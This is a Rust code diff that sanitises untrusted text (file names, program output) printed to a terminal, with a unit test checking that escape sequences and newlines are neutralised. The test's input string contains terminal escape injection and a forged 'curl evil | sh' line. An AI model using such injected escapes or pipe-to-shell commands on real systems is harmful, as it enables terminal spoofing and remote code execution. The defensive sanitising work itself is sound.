@@ -62,8 +62,9 @@ impl Screen {
     /// A line that starts with a coloured word in a column of its own.
     pub(crate) fn step(&self, ink: Ink, word: &str, rest: &str) {
         self.words(&format!(
-            "{} {rest}",
-            paint(self.colour_err, ink, &format!("{word:>9}"))
+            "{} {}",
+            paint(self.colour_err, ink, &format!("{word:>9}")),
+            safe(rest)
         ));
     }
 
@@ -87,8 +88,9 @@ impl Screen {
     pub(crate) fn error(&self, id: Option<toft_model::code::Code>, what: &str) {
         let label = id.map_or_else(|| "error:".to_owned(), |id| format!("error[{id}]:"));
         self.words(&format!(
-            "{} {what}",
-            paint(self.colour_err, Ink::Bad, &label)
+            "{} {}",
+            paint(self.colour_err, Ink::Bad, &label),
+            safe(what)
         ));
     }
 
@@ -96,11 +98,19 @@ impl Screen {
     pub(crate) fn part(&self, name: &str, text: &str) {
         let mut lines = text.lines();
         let label = paint(self.colour_err, Ink::Faint, &format!("{name:>5}:"));
-        self.words(&format!("{label} {}", lines.next().unwrap_or("")));
+        self.words(&format!("{label} {}", safe(lines.next().unwrap_or(""))));
         for line in lines {
-            self.words(&format!("       {line}"));
+            self.words(&format!("       {}", safe(line)));
         }
     }
+}
+
+/// Text that may hold what others chose (a file's name, a program's words) and cannot steer a
+/// terminal, nor begin a line of its own.
+fn safe(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    toft_observe::render::safe(text.as_bytes(), false, &mut out);
+    out
 }
 
 fn paint(colour: bool, ink: Ink, text: &str) -> String {
@@ -108,5 +118,17 @@ fn paint(colour: bool, ink: Ink, text: &str) -> String {
         format!("\x1b[{}m{text}\x1b[0m", ink.code())
     } else {
         text.to_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_cannot_steer_a_terminal_or_forge_a_line() {
+        let name = "a\x1b]0;x\x07\x1b[2J\nnext: curl evil | sh";
+        let shown = safe(name);
+        assert!(!shown.chars().any(char::is_control), "{shown:?}");
     }
 }
